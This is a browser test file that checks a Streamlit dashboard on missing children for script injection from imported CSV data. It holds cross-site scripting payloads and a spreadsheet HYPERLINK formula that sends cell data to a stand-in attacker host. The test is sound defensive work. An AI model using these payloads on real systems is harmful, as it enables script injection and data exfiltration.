"""Imported names and ids that are scripts never run, on any page, for any role.

A council file may hold anything in a name or an id. Here establishment names
and ids and child ids are script payloads; every page is opened as each role,
the map's homes are hovered so their tooltips open, and a dialog handler
(what `alert(1)` would trigger) must never fire.
"""

from __future__ import annotations

import csv

import pytest

from charts.maps import LEAFLET
from loaders.database import connect
from loaders.importer import import_file
from tests.browser_support import add_test_users, open_page, streamlit_server

pytestmark = pytest.mark.browser

PAYLOADS = ("${alert(1)}", "`+alert(1)+`", "<img src=x onerror=alert(1)>", "\\`${alert(1)}`")
PERIOD = "from=2015-03-01&to=2015-03-31"
PAGES = {
    "viewer": (
        "",
        "hotspots",
        "repeat_runaways",
        "time_distance",
        "return_interviews",
        "childrens_homes",
        "demographics",
        "data_quality",
    ),
    "admin": (
        "",
        "hotspots",
        "repeat_runaways",
        "time_distance",
        "return_interviews",
        "childrens_homes",
        "demographics",
        "data_quality",
        "alerts",
        "missing_together",
        "child_timeline",
        "audit_log",
    ),
}
HEADER = [
    "episode_id",
    "child_id",
    "category",
    "reported_at",
    "returned_at",
    "missing_from",
    "placement_type",
    "establishment_id",
    "establishment_name",
    "from_postcode",
    "found_postcode",
]


def payload_rows() -> list[list[str]]:
    """Two children going missing together from each payload home, three times in March 2015."""
    rows = []
    for number, payload in enumerate(PAYLOADS):
        home_id, home_name = f"{payload}{number}", f"{payload} House"
        children = (f"{payload}C{number}", f'=HYPERLINK("http://evil.example/?d="&A2,"{number}")')
        for day in (3, 10, 17):
            for which, child in enumerate(children):
                rows.append(
                    [
                        f"E{number}-{day}-{which}",
                        child,
                        "missing",
                        f"2015-03-{day:02d} 1{which}:00",
                        f"2015-03-{day:02d} 22:00",
                        "care",
                        "residential",
                        home_id,
                        home_name,
                        "B23 6AA" if number % 2 else "B1 1AA",
                        "B27 7AA",
                    ]
                )
    return rows


@pytest.fixture(scope="module")
def payload_server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("payloads")
    source = folder / "payloads.csv"
    with source.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(HEADER)
        writer.writerows(payload_rows())
    url = f"sqlite:///{folder / 'payloads.db'}"
    engine = connect(url)
    result = import_file(engine, source)
    engine.dispose()
    assert result.outcome == "landed", result.messages
    with streamlit_server(add_test_users(url), folder / "streamlit.log") as base:
        yield base


@pytest.fixture(scope="module", autouse=True)
def leaflet_installed():
    if not (LEAFLET / "leaflet.js").exists():
        pytest.fail(f"Leaflet is not installed in {LEAFLET}: run make setup")


@pytest.mark.parametrize(("role", "name"), [(role, name) for role, names in PAGES.items() for name in names])
def test_no_imported_text_runs_as_script(payload_server, page, role, name):
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    open_page(page, payload_server, f"{name}?{PERIOD}", role=role, wait=False)
    page.wait_for_selector('[data-testid="stApp"]', timeout=30_000)
    page.wait_for_function("() => !document.querySelector('[data-testid=\"stStatusWidget\"]')", timeout=60_000)
    page.wait_for_timeout(1500)
    if name == "hotspots":
        frame = page.frame_locator('iframe[title^="Map of"]')
        homes = frame.locator("path.leaflet-interactive")
        homes.first.wait_for(timeout=60_000)
        for index in range(homes.count()):  # every area and home: each tooltip opens
            homes.nth(index).dispatch_event("mouseover")
        tooltips = frame.locator(".leaflet-tooltip").all_inner_texts()
        assert any("House (" in text for text in tooltips), tooltips  # the names show, as text
        assert any("<img src=x onerror=alert(1)> House" in text for text in tooltips), tooltips
    for chart in page.locator(".vega-embed").all():  # chart tooltips
        chart.hover()
    page.wait_for_timeout(500)
    assert page.locator('[data-testid="stException"]').count() == 0
    assert dialogs == []
